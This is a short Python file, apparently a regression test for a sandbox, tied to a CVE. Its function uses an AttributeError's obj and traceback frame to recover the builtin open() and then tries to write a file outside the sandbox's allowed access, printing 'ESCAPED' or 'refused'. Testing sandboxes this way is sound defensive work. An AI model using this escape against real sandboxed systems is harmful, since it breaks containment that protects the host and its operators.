# expect: done
# idea: get hold of an object that nobody handed out through the obj of an AttributeError
# source: CVE-2026-0863
import random


def tick(ctx):
    try:
        random.Random(1).nothing_of_this_name
    except Exception as error:
        print(type(error.obj), error.name)
    try:
        ctx.nothing_of_this_name
    except Exception as error:
        frame = error.__traceback__.tb_next.tb_frame
        print(sorted(frame.f_globals)[:6])
        builtins = frame.f_globals["__builtins__"]
    open_ = builtins["open"] if isinstance(builtins, dict) else builtins.open
    try:
        print("ESCAPED: wrote", open_(ctx.config["folder"] + "/obj", "w"))
    except Exception as error:
        print("refused:", error)
